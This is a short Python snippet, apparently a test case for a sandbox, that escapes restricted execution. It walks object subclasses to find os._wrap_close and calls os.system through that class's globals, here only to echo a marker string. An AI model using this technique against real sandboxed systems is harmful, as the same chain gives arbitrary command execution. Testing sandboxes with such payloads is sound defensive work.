# kind: subclasses
# effect: prints ESCAPED
found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"]
found[0].__init__.__globals__["system"]("echo ESCAPED")
